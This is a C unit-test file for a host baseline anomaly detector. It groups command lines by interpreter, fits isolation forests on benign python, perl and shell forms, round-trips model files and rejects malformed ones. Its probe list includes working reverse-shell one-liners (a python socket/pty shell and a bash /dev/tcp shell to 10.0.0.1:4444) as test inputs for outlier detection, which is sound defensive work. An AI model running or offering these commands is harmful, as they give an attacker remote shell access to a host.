/* test_baseline.c: the host baseline (user/baseline/): groups formed from command lines and from
 * execs, the forest's arithmetic, deterministic fits, the file's round trip, a known outlier above
 * its group's inliers, explanations, groups too small to learn, and malformed files rejected with
 * file:line. Benign lines are generated here from a few python, perl and shell -c forms. */
#include <math.h>
#include <stdlib.h>
#include <string.h>
#include "baseline.h"
#include "tap.h"

static int group_of_line(const char *line)
{
	unsigned n;
	const struct bl_group_def *d = bl_groups_builtin(&n);
	struct bl_cmd c;

	bl_cmd_from_line(&c, line, strlen(line));
	return bl_group_of(d, n, &c);
}

static const char *name_of(int g)
{
	unsigned n;

	return g < 0 ? "-" : bl_groups_builtin(&n)[g].name;
}

static void test_groups_of_lines(void)
{
	static const struct { const char *line, *group; } t[] = {
		{ "python3.11 -c 'print(1)'", "python" }, { "/usr/bin/perl -e 1", "perl" },
		{ "FOO=1 BAR=x ruby x.rb", "ruby" }, { "busybox awk '{print}' f", "awk" },
		{ "bash -c 'ls -la'", "shell-c" }, { "/bin/sh -c ls", "shell-c" },
		{ "bash script.sh", "-" }, { "bash", "-" }, { "ls -la", "-" }, { "nodejs -e 1", "node" },
		{ "gawk -F: '{print $1}'", "awk" }, { "luajit x.lua", "lua" }, { "tclsh8.6", "tcl" },
		{ "php8.2 -r 'echo 1;'", "php" }, { "pypy3 x.py", "python" }, { "python3-config", "-" },
		{ "'/usr/bin/python3' x.py", "python" }, { "", "-" }, { "   ", "-" },
		{ "busybox sh -c 'id'", "shell-c" }, { "sudo python3 x.py", "-" },
	};

	for (size_t i = 0; i < sizeof(t) / sizeof(t[0]); i++) {
		const char *got = name_of(group_of_line(t[i].line));

		CHECKF(!strcmp(got, t[i].group), "'%s': %s, want %s", t[i].line, got, t[i].group);
	}
}

/* A table is data: another one groups by its own rows; "*" is every program. */
static void test_group_table(void)
{
	static const struct bl_group_def defs[] = {
		{ "py", "python", BL_SRC_CODE }, { "rest", "*", BL_SRC_ANY },
	};
	static const struct bl_group_def bad[] = {
		{ "a b", "x", BL_SRC_ANY }, { "a", "x  y", BL_SRC_ANY }, { "a", "x*", BL_SRC_ANY },
		{ "a", "", BL_SRC_ANY }, { "a", "x;y", BL_SRC_ANY },
	};
	struct bl_cmd c;

	bl_cmd_from_line(&c, "python3 -c 1", 12);
	CHECK(bl_group_of(defs, 2, &c) == 0);
	bl_cmd_from_line(&c, "python3 x.py", 12);
	CHECK(bl_group_of(defs, 2, &c) == -1);   /* its row says code only; no second chance */
	bl_cmd_from_line(&c, "ls -la", 6);
	CHECK(bl_group_of(defs, 2, &c) == 1);
	CHECK(bl_group_def_valid(&defs[0]) && bl_group_def_valid(&defs[1]));
	for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++)
		CHECKF(!bl_group_def_valid(&bad[i]), "'%s' '%s' accepted", bad[i].name, bad[i].programs);
}

static struct sw_str S(const char *s)
{
	return sw_str_c(s);
}

/* An exec's argv lost its quotes: the code is quoted again, the program comes from the source. */
static void test_groups_of_execs(void)
{
	unsigned n;
	const struct bl_group_def *d = bl_groups_builtin(&n);
	char buf[256];
	struct bl_cmd c;
	struct shtok a, b;

	bl_cmd_from_exec(&c, S("/usr/bin/python3.11"), S(""), S("python3 -c import os;print(1)"),
			 buf, sizeof(buf));
	CHECK(!strcmp(c.prog, "python3.11") && !strcmp(name_of(bl_group_of(d, n, &c)), "python"));
	CHECKF(c.len == strlen("python3 -c 'import os;print(1)'") &&
	       !memcmp(c.text, "python3 -c 'import os;print(1)'", c.len), "%.*s", (int)c.len, c.text);
	bl_cmd_from_exec(&c, S("/usr/bin/python3"), S(""), S("python3 -c print('x')"), buf,
			 sizeof(buf));
	CHECKF(!strncmp(c.text, "python3 -c 'print('\\''x'\\'')'", c.len), "%.*s", (int)c.len,
	       c.text);
	shtok_run(&a, c.text, c.len);
	shtok_run(&b, "python3 -c \"print('x')\"", strlen("python3 -c \"print('x')\""));
	CHECK(a.n == b.n && a.used == b.used && !memcmp(a.buf, b.buf, a.used));
	bl_cmd_from_exec(&c, S("/bin/busybox"), S("busybox"), S("sh -c echo hi"), buf, sizeof(buf));
	CHECK(!strcmp(c.prog, "sh") && !strcmp(name_of(bl_group_of(d, n, &c)), "shell-c"));
	CHECK(c.len == strlen("sh -c 'echo hi'") && !memcmp(c.text, "sh -c 'echo hi'", c.len));
	bl_cmd_from_exec(&c, S("/bin/busybox"), S(""), S("busybox sh -c id"), buf, sizeof(buf));
	CHECK(!strcmp(name_of(bl_group_of(d, n, &c)), "shell-c"));
	bl_cmd_from_exec(&c, S("/tmp/x"), S("python3.11"), S("x -c 1"), buf, sizeof(buf));
	CHECK(!strcmp(name_of(bl_group_of(d, n, &c)), "python"));
	bl_cmd_from_exec(&c, S("/usr/bin/bash"), S("bash"), S("bash /etc/x.sh"), buf, sizeof(buf));
	CHECK(bl_group_of(d, n, &c) < 0 && c.text[0] == 'b' && c.len == 14);
	bl_cmd_from_exec(&c, S("/usr/bin/perl"), S(""), S("perl -e print 1"), buf, 8);
	CHECK(c.len < 8);   /* cut to fit, never past the buffer */
}

static void test_forest_arithmetic(void)
{
	CHECK(iforest_c(1) == 0 && iforest_c(2) == 1);
	CHECKF(fabs(iforest_c(256) - 10.2448) < 1e-3, "c(256) = %f", iforest_c(256));
	CHECK(iforest_limit(256) == 8 && iforest_limit(100) == 7 && iforest_limit(2) == 1);
}

/* Benign forms: prefix, a number, suffix. */
static const struct { const char *pre, *post; } forms[] = {
	{ "python3 -c 'import json,sys; print(json.load(sys.stdin)[\"k", "\"])'" },
	{ "python3 /usr/lib/app/manage.py check --tag t", "" },
	{ "python3 -c 'import sys; print(sys.version_info[:", "])'" },
	{ "python3 -m pip list --format=json --path /opt/venv", "" },
	{ "perl -ne 'print if /error ", "/' /var/log/app.log" },
	{ "perl -pi -e 's/v", "/v2/g' /etc/app.conf" },
	{ "bash -c 'cd /srv/app", " && make -j2'" },
	{ "sh -c 'test -f /run/app", ".pid && kill -0 $(cat /run/app.pid)'" },
};

static void form(char *line, size_t cap, unsigned f, unsigned num)
{
	snprintf(line, cap, "%s%u%s", forms[f].pre, num, forms[f].post);
}

/* Benign lines of a host: a few python, perl and shell -c forms, with varying numbers and names;
 * n lines, then the first 20 again (hosts repeat themselves); an ungrouped `ls -la` after each. */
static struct baseline *learn_with(const struct baseline_opts *o, unsigned n)
{
	struct baseline_learner *l = baseline_learner_new(o, NULL, 0);
	char line[256];
	struct bl_cmd c;

	for (unsigned i = 0; l && i < n + 20; i++) {
		unsigned k = i % n;

		form(line, sizeof(line), k % 8, k * 7 % 100);
		bl_cmd_from_line(&c, line, strlen(line));
		baseline_learner_add(l, &c);
		bl_cmd_from_line(&c, "ls -la", 6);
		baseline_learner_add(l, &c);
	}
	return l ? baseline_learner_finish(l) : NULL;
}

static char *saved(const struct baseline *b, size_t *len)
{
	char *buf = NULL;
	FILE *f = open_memstream(&buf, len);

	if (!f)
		return NULL;
	baseline_save(b, f);
	fclose(f);
	return buf;
}

static int group_index(const struct baseline *b, const char *name)
{
	for (unsigned i = 0; i < baseline_ngroups(b); i++) {
		struct baseline_group_info gi;

		baseline_group_info(b, i, &gi);
		if (!strcmp(gi.def->name, name))
			return (int)i;
	}
	return -1;
}

static void test_deterministic(void)
{
	struct baseline_opts o = baseline_opts_default();
	struct baseline *a = learn_with(&o, 400), *b = learn_with(&o, 400), *c;
	size_t la, lb, lc;
	char *ta, *tb, *tc;

	o.seed = 2;
	c = learn_with(&o, 400);
	ta = saved(a, &la), tb = saved(b, &lb), tc = saved(c, &lc);
	CHECK(a && b && c && ta && tb && tc);
	CHECK(la == lb && !memcmp(ta, tb, la));
	CHECK(la != lc || memcmp(ta, tc, la));   /* another seed, other trees */
	CHECK(baseline_ungrouped(a) == 420);
	free(ta), free(tb), free(tc);
	baseline_free(a), baseline_free(b), baseline_free(c);
}

static const char *const probes[] = {
	"python3 -c 'import sys; print(sys.version_info[:14])'",
	"python3 /usr/lib/app/manage.py check --tag t999",
	"python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"10.0.0.1\",4444));"
	"[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")'",
	"perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));'",
	"bash -c 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'",
	"ls -la",
};

static void test_round_trip(void)
{
	struct baseline_opts o = baseline_opts_default();
	char err[256];
	size_t l1, l2;
	struct baseline *a, *b = NULL;
	char *t1, *t2 = NULL;

	for (int mode = 0; mode < 3; mode++) {
		o.features = mode == 1 ? BL_FEAT_HASHED : BL_FEAT_TOKENS;
		o.ignore_unseen = mode == 2;
		a = learn_with(&o, 400);
		t1 = saved(a, &l1);
		b = t1 ? baseline_parse(t1, l1, "mem", err, sizeof(err)) : NULL;
		CHECKF(b != NULL, "mode %d: %s", mode, err);
		if (b)
			t2 = saved(b, &l2);
		CHECKF(t2 && l1 == l2 && !memcmp(t1, t2, l1), "mode %d: saved again differs", mode);
		for (size_t i = 0; b && i < sizeof(probes) / sizeof(probes[0]); i++) {
			struct baseline_result ra, rb;
			struct bl_cmd c;

			bl_cmd_from_line(&c, probes[i], strlen(probes[i]));
			baseline_score(a, &c, &ra, NULL);
			baseline_score(b, &c, &rb, NULL);
			CHECKF(ra.group == rb.group && ra.learnt == rb.learnt && ra.score == rb.score &&
			       ra.outlier == rb.outlier, "mode %d '%s': %f vs %f", mode, probes[i],
			       ra.score, rb.score);
		}
		free(t1), free(t2);
		t2 = NULL;
		baseline_free(a), baseline_free(b);
	}
}

/* A reverse shell scores above every line its group learnt from, and only it is an outlier. */
static void test_outlier_above_inliers(void)
{
	struct baseline_opts o = baseline_opts_default();
	struct baseline *b = learn_with(&o, 400);
	struct baseline_result r, shell;
	struct baseline_explain ex;
	struct bl_cmd c;
	double top = 0;
	char line[256];
	unsigned flagged = 0;

	bl_cmd_from_line(&c, probes[2], strlen(probes[2]));
	baseline_score(b, &c, &shell, &ex);
	CHECK(shell.learnt && shell.outlier && !strcmp(name_of(shell.group), "python"));
	for (unsigned k = 0; k < 400; k += 8) {   /* the python forms, as learnt */
		for (unsigned f = 0; f < 4; f++) {
			form(line, sizeof(line), f, (k + f) * 7 % 100);
			bl_cmd_from_line(&c, line, strlen(line));
			baseline_score(b, &c, &r, NULL);
			top = r.score > top ? r.score : top;
			flagged += r.outlier;
		}
	}
	CHECKF(shell.score > top, "shell %f, highest inlier %f", shell.score, top);
	CHECKF(flagged == 0, "%u inliers flagged", flagged);
	CHECKF(ex.unseen >= 5 && ex.n >= ex.unseen && ex.lines == 212, "unseen %u of %u, lines %llu",
	       ex.unseen, ex.n, (unsigned long long)ex.lines);
	for (uint32_t i = 0; i < ex.unseen; i++)
		CHECKF(ex.item[i].df == 0, "%s", ex.item[i].text);
	CHECK(!strcmp(ex.item[0].text, "socket"));
	baseline_free(b);
}

static void test_too_few_lines(void)
{
	struct baseline_opts o = baseline_opts_default();
	struct baseline *b;
	struct baseline_group_info gi;
	struct baseline_result r;
	struct bl_cmd c;
	int perl;

	o.min_lines = 100;
	b = learn_with(&o, 400);   /* python 212 lines, perl 104, shell-c 104 */
	perl = group_index(b, "perl");
	baseline_group_info(b, (unsigned)group_index(b, "python"), &gi);
	CHECK(gi.learnt && gi.lines == 212);
	o.min_lines = 105;
	baseline_free(b);
	b = learn_with(&o, 400);
	baseline_group_info(b, (unsigned)perl, &gi);
	CHECKF(!gi.learnt && gi.lines == 104, "perl learnt %d, %llu lines", gi.learnt,
	       (unsigned long long)gi.lines);
	bl_cmd_from_line(&c, probes[3], strlen(probes[3]));
	baseline_score(b, &c, &r, NULL);
	CHECK(r.group == perl && !r.learnt && !r.outlier);
	baseline_group_info(b, (unsigned)group_index(b, "ruby"), &gi);
	CHECK(!gi.learnt && gi.lines == 0);
	baseline_free(b);
}

/* Replace line no (1-based) of text with repl; NULL repl drops it; the new text. */
static char *with_line(const char *text, unsigned no, const char *repl)
{
	size_t cap = strlen(text) + (repl ? strlen(repl) : 0) + 2, n = 0;
	char *out = malloc(cap);
	unsigned line = 1;

	for (const char *p = text; *p; line++) {
		const char *nl = strchr(p, '\n');
		size_t len = nl ? (size_t)(nl - p + 1) : strlen(p);

		if (line != no) {
			memcpy(out + n, p, len);
			n += len;
		} else if (repl) {
			n += (size_t)sprintf(out + n, "%s\n", repl);
		}
		p += len;
	}
	out[n] = '\0';
	return out;
}

/* The line number of the first line of text starting with prefix (after line from). */
static unsigned line_of(const char *text, const char *prefix, unsigned from)
{
	unsigned line = 1;

	for (const char *p = text; *p; line++) {
		if (line > from && !strncmp(p, prefix, strlen(prefix)))
			return line;
		if (!(p = strchr(p, '\n')))
			break;
		p++;
	}
	return 0;
}

static void expect_error(const char *text, unsigned line, const char *why)
{
	char err[256], want[32];
	struct baseline *b = baseline_parse(text, strlen(text), "f.swb", err, sizeof(err));

	snprintf(want, sizeof(want), "f.swb:%u: ", line);
	CHECKF(!b && !strncmp(err, want, strlen(want)), "%s: got '%s', want '%s...'", why,
	       b ? "(parsed)" : err, want);
	baseline_free(b);
}

static void test_malformed(void)
{
	struct baseline_opts o = baseline_opts_default();
	struct baseline *b;
	size_t len;
	char *t, *m;
	unsigned voc, tree, node, end, perl, nlines = 0;

	o.trees = 3;
	b = learn_with(&o, 400);
	t = saved(b, &len);
	baseline_free(b);
	voc = line_of(t, "vocabulary ", 0);
	tree = line_of(t, "tree ", 0);
	node = line_of(t, "s ", tree);
	end = line_of(t, "end group", 0);
	perl = line_of(t, "group perl", 0);
	for (size_t i = 0; i < len; i++)
		nlines += t[i] == '\n';
	CHECK(voc && tree && node && end && perl && nlines > 100);
	static const struct { unsigned line; const char *repl, *why; } cases[] = {
		{ 1, "shellwatch-model 1", "not a baseline" },
		{ 2, "features words", "unknown features" },
		{ 5, "trees 0", "no trees" },
		{ 7, "contamination 0.9", "contamination out of range" },
		{ 11, "group python!", "bad group name" },
	};
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		m = with_line(t, cases[i].line, cases[i].repl);
		expect_error(m, cases[i].line, cases[i].why);
		free(m);
	}
	m = with_line(t, perl, "group python"), expect_error(m, perl, "a group twice"), free(m);
	m = with_line(t, voc + 1, "1 bad\\xZZ"), expect_error(m, voc + 1, "bad escape"), free(m);
	m = with_line(t, voc + 1, "0 x"), expect_error(m, voc + 1, "a count of 0"), free(m);
	m = with_line(t, node, "s 999999 0.5 3"), expect_error(m, node, "column out of range"), free(m);
	m = with_line(t, node, "s 1 nan 3"), expect_error(m, node, "split not a number"), free(m);
	m = with_line(t, node, "x 1"), expect_error(m, node, "not a node"), free(m);
	m = with_line(t, tree, "tree 1"), expect_error(m, tree + 2, "more nodes than said"), free(m);
	m = with_line(t, end, NULL), expect_error(m, end, "no end of group"), free(m);
	m = with_line(t, 1, NULL), expect_error(m, 1, "no header"), free(m);
	expect_error("", 1, "empty file");
	m = malloc(len + 8);
	memcpy(m, t, len);
	strcpy(m + len, "more\n");
	expect_error(m, nlines + 1, "text after the end");
	m[len / 2] = '\0';   /* cut in the middle: the error is where the text ends */
	b = baseline_parse(m, strlen(m), "f.swb", (char[256]){ 0 }, 256);
	CHECK(b == NULL);
	free(m);
	free(t);
}

int main(void)
{
	RUN(test_groups_of_lines);
	RUN(test_groups_of_execs);
	RUN(test_group_table);
	RUN(test_forest_arithmetic);
	RUN(test_deterministic);
	RUN(test_round_trip);
	RUN(test_outlier_above_inliers);
	RUN(test_too_few_lines);
	RUN(test_malformed);
	return tap_done();
}
